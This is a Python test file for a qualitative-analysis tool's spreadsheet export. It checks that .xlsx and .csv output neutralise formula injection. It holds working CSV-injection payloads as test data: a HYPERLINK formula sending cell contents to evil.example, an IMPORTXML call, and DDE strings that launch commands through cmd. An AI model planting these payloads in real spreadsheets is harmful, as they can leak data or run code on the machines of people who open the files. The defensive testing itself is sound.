"""No text from a project is taken for a formula: .xlsx stores it as strings, .csv
neutralises it as OWASP recommends (a leading ' and every text field quoted)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from qcode.core.analysis.matrix_spec import MatrixSpec
from qcode.core.codebook.codes import add_code
from qcode.core.coding import codings
from qcode.core.export import write_matrix
from qcode.core.export.formulas import needs_quote
from qcode.core.project.store import Project
from qcode.core.sources import documents

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "+47 22 33 44 55",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =2+2 etter mellomrom",
    "＝3+3",
]
CODE_NAME = '=IMPORTXML(CONCAT("http://x/",A2),"//a")'
ATTRIBUTE = "-2+3"


def _build(tmp_path: Path) -> Path:
    """Excerpts, a code name, an attribute value and a document name that start like a
    formula."""
    path = tmp_path / "p.qcode"
    with Project.create(path, coder="@coder") as project:
        src = tmp_path / "=file.txt"
        src.write_text("\n\n".join(line.replace("\t", "  ") for line in HOSTILE) + "\n", "utf-8")
        documents.import_files(project, [src])
        documents.set_document_attributes(project, src.name, {"office": ATTRIBUTE})
        add_code(project, CODE_NAME, key="evil")
        text = documents.get_document(project, src.name).text
        for line in HOSTILE:
            shown = line.replace("\t", "  ").strip()
            start = text.index(shown)
            codings.add_coding(project, src.name, start, start + len(shown), "evil")
    return path


@pytest.mark.parametrize("by", ["source", "office"])
def test_xlsx_cells_are_never_formulas(tmp_path: Path, by: str) -> None:
    path = _build(tmp_path)
    out = tmp_path / "m.xlsx"
    with Project.open(path) as project:
        write_matrix(project, MatrixSpec(rows=("evil",), by=by), out)
    book = openpyxl.load_workbook(out)
    strings: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    strings.append(cell.value)
                    if needs_quote(cell.value):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
    listing = book["Excerpts"]
    texts = [row[12] for row in listing.iter_rows(min_row=2, values_only=True)]
    assert sorted(texts) == sorted(line.replace("\t", "  ").strip() for line in HOSTILE)
    assert CODE_NAME in strings and "=file.txt" in strings and "@coder" in strings
    if by == "office":
        assert ATTRIBUTE in strings


def test_csv_fields_are_neutralised(tmp_path: Path) -> None:
    path = _build(tmp_path)
    out = tmp_path / "m.csv"
    with Project.open(path) as project:
        write_matrix(project, MatrixSpec(rows=("evil",)), out)
    raw = out.read_text("utf-8-sig")
    rows = list(csv.reader(raw.splitlines(keepends=True)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    for row in body:
        for value in row:
            assert not needs_quote(value), value
    texts = {row[header.index("text")] for row in body}
    # the quote is ours: drop it and the text is as written
    assert {t[1:] if t.startswith("'") else t for t in texts} == {
        line.replace("\t", "  ").strip() for line in HOSTILE
    }
    assert "'" + HOSTILE[0] in texts and "'＝3+3" in texts
    first = body[0]
    assert first[header.index("code_name")] == "'" + CODE_NAME
    assert first[header.index("source")] == "'=file.txt"
    assert first[header.index("coder")] == "'@coder"
    for line in raw.splitlines()[1:]:  # text fields quoted, so a separator cannot split one
        assert line.startswith('"')


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1", True),
        ("+1", True),
        ("-1", True),
        ("@x", True),
        ("\t=1", True),
        ("\r=1", True),
        (" =1", True),
        ("\u00a0@x", True),
        ("＋1", True),
        ("a=1", False),
        ("Kari", False),
        ("", False),
    ],
)
def test_needs_quote(text: str, risky: bool) -> None:
    assert needs_quote(text) is risky
